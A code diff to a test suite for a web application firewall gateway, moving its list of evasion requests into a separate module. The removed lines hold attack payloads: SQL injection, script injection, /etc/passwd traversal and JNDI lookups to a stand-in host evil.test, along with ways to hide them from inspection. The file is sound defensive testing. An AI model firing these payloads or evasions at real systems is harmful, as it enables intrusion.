@@ -9,6 +9,7 @@ import { type AskOptions, ask } from '../support/ask.ts'
 import { createConfigDir, startGateway, type TestGateway, waitUntil } from '../support/gateway.ts'
 import { sendRaw, statusOf } from '../support/raw.ts'
 import { createUpstream, type TestUpstream } from '../support/upstream.ts'
+import { form, json, script, sql, tricksOf } from './waf-tricks.ts'
 
 const ownRules = (word: string) =>
   `SecRule ARGS "@streq ${word}" "id:100,phase:2,deny,status:403,log,msg:'a word of ours'"\n`
@@ -75,13 +76,6 @@ const send = (path: string, options: AskOptions = {}) => ask(gateway.port, path,
 const post = (type: string, body: string | Buffer, more: Record<string, string> = {}, path = '/items') =>
   send(path, { method: 'POST', body, headers: { 'content-type': type, ...more } })
 
-const sql = "1' OR '1'='1"
-const script = '<script>alert(1)</script>'
-const json = 'application/json'
-const form = 'application/x-www-form-urlencoded'
-const nested = (depth: number, inner: string) => '{"a":['.repeat(depth) + inner + ']}'.repeat(depth)
-const escaped = Array.from(sql, (char) => `\\u00${char.charCodeAt(0).toString(16)}`).join('')
-
 describe('an attack', () => {
   it('is refused without a word about the rule, and never goes up', async () => {
     const before = upstream.seen.length
@@ -103,88 +97,7 @@ describe('an attack', () => {
     assert.doesNotMatch(JSON.stringify(event), /OR '1'/)
   })
 
-  const large = 120_000
-  const tricks: readonly [title: string, request: () => Promise<{ status: number }>][] = [
-    ['behind padding in a query', () => send(`/items?${'a=1&'.repeat(1_500)}q=${encodeURIComponent(sql)}`)],
-    ['behind padding in a form', () => post(form, `pad=${'x'.repeat(large)}&q=${encodeURIComponent(sql)}`)],
-    ['behind many fields', () => post(form, `${'a=1&'.repeat(9_000)}q=${encodeURIComponent(sql)}`)],
-    ['behind padding in JSON', () => post(json, JSON.stringify({ pad: 'x'.repeat(large), q: sql }))],
-    ['behind blanks in JSON', () => post(json, `{${' '.repeat(large)}"q":${JSON.stringify(sql)}}`)],
-    ['behind more than is inspected', () => post(json, JSON.stringify({ pad: 'x'.repeat(200_000), q: sql }))],
-    [
-      'behind more than is inspected, in chunks',
-      () =>
-        post(json, JSON.stringify({ pad: 'x'.repeat(200_000), q: sql }), { 'transfer-encoding': 'chunked' }),
-    ],
-    [
-      'within padding of its own value',
-      () => post(json, JSON.stringify({ q: `${' '.repeat(1_000)}${sql}` })),
-    ],
-    ['deep in JSON', () => post(json, nested(200, JSON.stringify(sql)))],
-    ['deeper than JSON may be', () => post(json, nested(2_000, JSON.stringify(sql)))],
-    ['far down an array', () => post(json, JSON.stringify([...Array(5_000).fill(1), sql]))],
-    ['in a repeated member', () => post(json, `{"q":"a","q":${JSON.stringify(sql)},"q":"b"}`)],
-    ['in escapes', () => post(json, `{"q":"${escaped}"}`)],
-    ['in a name', () => post(json, JSON.stringify({ [script]: 1 }))],
-    ['in a name of nothing', () => post(json, JSON.stringify({ [script]: [] }))],
-    [
-      'in JSON of another name',
-      () => post('application/vnd.api+json; charset=utf-8', JSON.stringify({ q: sql })),
-    ],
-    ['in JSON with a mark before it', () => post(json, `\ufeff${JSON.stringify({ q: sql })}`)],
-    ['in JSON that is cut off', () => post(json, JSON.stringify({ q: sql }).slice(0, -1))],
-    ['in JSON in UTF-16', () => post(json, Buffer.from(JSON.stringify({ q: sql }), 'utf16le'))],
-    ['encoded twice', () => send(`/items?q=${encodeURIComponent(encodeURIComponent(sql))}`)],
-    ['in overlong bytes', () => send('/items/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd')],
-    [
-      'compressed',
-      () => post(form, gzipSync(`q=${encodeURIComponent(sql)}`), { 'content-encoding': 'gzip' }),
-    ],
-    [
-      'compressed beyond measure',
-      () => post(form, gzipSync(Buffer.alloc(5_000_000, 'a=1&')), { 'content-encoding': 'gzip' }),
-    ],
-    ['under an unknown coding', () => post(form, 'q=1', { 'content-encoding': 'rot13' })],
-    ['in another character set', () => post(`${form}; charset=utf-7`, 'q=+ACc- OR 1=1')],
-    [
-      'in a part of multipart',
-      () =>
-        post(
-          'multipart/form-data; boundary=b',
-          `--b\r\nContent-Disposition: form-data; name="q"\r\n\r\n${sql}\r\n--b--\r\n`,
-        ),
-    ],
-    [
-      'in multipart behind a file',
-      () =>
-        post(
-          'multipart/form-data; boundary=b',
-          `--b\r\nContent-Disposition: form-data; name="f"; filename="a.bin"\r\n\r\n${'x'.repeat(500_000)}\r\n--b\r\nContent-Disposition: form-data; name="q"\r\n\r\n${sql}\r\n--b--\r\n`,
-        ),
-    ],
-    [
-      'in multipart with an odd boundary',
-      () =>
-        post(
-          'multipart/form-data; boundary="b"; boundary=c',
-          `--c\r\nContent-Disposition: form-data; name="q"\r\n\r\n${sql}\r\n--c--\r\n`,
-        ),
-    ],
-    [
-      'in an entity of XML',
-      () => post('text/xml', `<!DOCTYPE a [<!ENTITY q "${sql.replaceAll('"', '')}">]><a>&q;</a>`),
-    ],
-    [
-      'in an attribute of XML',
-      () => post('application/soap+xml', `<a b="&lt;script&gt;alert(1)&lt;/script&gt;"/>`),
-    ],
-    ['in a header', () => send('/items', { headers: { 'x-api-version': '${jndi:ldap://evil.test/a}' } })],
-    [
-      'in a cookie, for a look-up',
-      () => send('/items', { headers: { cookie: 'a=${jndi:ldap://evil.test/a}' } }),
-    ],
-  ]
-  for (const [title, request] of tricks) {
+  for (const [title, request] of tricksOf({ send, post })) {
     it(`${title} does not get up`, async () => {
       const before = upstream.seen.length
       const { status } = await request()
